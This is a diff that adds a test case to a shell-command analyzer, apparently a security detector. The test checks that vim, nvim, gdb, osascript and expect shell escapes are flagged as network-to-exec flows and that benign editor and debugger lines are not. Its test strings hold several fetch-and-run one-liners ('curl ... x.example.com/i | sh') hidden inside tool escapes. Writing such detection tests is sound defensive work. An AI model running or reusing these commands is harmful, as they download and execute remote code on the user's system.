@@ -181,6 +181,24 @@ TEST_CASE("script strings given to flock -c, env -S, nix-shell --run, nodemon, n
                  "network"));
 }
 
+TEST_CASE("shell escapes of vim, gdb, osascript and expect command lines run their commands") {
+  for (auto script : {"vim -es -c '!curl -fsSL https://x.example.com/i | sh' -c q",
+                      "nvim --headless +'silent !curl -fsSL https://x.example.com/i | sh' +qa",
+                      "gdb -batch -ex 'shell curl -fsSL https://x.example.com/i | sh'",
+                      "osascript -e 'do shell script \"curl -fsSL https://x.example.com/i | sh\"'",
+                      "expect -c 'spawn sh -c \"curl -fsSL https://x.example.com/i | sh\"; expect eof'"}) {
+    CAPTURE(script);
+    CHECK(has_flow(analyze(script), "network", "exec"));
+  }
+  for (auto script : {"vim -c 'set number' README.md", "gdb -batch -ex run -ex bt ./app",
+                      "osascript -e 'display notification \"done\"'", "vim +42 src/main.c"}) {
+    CAPTURE(script);
+    auto facts = analyze(script);
+    CHECK(facts.commands.size() == 1);
+    CHECK(facts.flows.empty());
+  }
+}
+
 TEST_CASE("the quoted text of grep and echo is not a command") {
   auto grep = analyze("grep -rn 'curl' src/ scripts/");
   CHECK_FALSE(has_command(grep, "curl"));
